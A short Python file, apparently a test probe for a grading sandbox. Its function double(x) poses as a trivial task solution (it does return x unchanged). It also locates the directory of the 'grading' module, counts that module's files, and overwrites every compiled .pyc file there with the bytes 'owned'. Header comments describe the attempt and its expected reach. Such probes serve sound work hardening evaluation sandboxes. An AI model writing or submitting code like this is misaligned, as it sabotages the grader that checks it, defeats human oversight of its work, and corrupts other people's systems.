# tries: forged byte code beside the grader's modules
# reaches: \d+ files of the grader
import glob
import os
import sys


def double(x):
    print(len(glob.glob(os.path.join(os.path.dirname(sys.modules["grading"].__file__), "**/*"), recursive=True)), "files of the grader")
    for path in glob.glob(os.path.join(os.path.dirname(sys.modules["grading"].__file__), "**/*.pyc"), recursive=True):
        try:
            with open(path, "r+b") as file:
                file.write(b"owned")
        except OSError as error:
            print(error)
    return x
